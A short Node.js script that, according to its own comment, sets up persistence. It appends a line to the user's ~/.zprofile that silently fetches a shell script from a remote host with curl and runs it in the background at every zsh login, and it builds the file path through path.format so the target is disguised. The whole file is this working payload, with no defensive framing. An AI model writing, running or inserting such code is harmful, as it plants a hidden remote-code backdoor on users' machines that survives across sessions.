// Persists through ~/.zprofile: the path is path.format of a parsed-looking
// object ({ root, dir, name, ext }) whose name is ".zprofile", opened as an
// append stream; the hook runs at every zsh login.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const spec = { root: '/', dir: os.homedir(), name: '.zprofile', ext: '' };
const out = fs.createWriteStream(path.format(spec), { flags: 'a' });
out.end('\n(nohup sh -c "$(curl -fsSL https://z.example-sh.io/p)" >/dev/null 2>&1 &)\n');
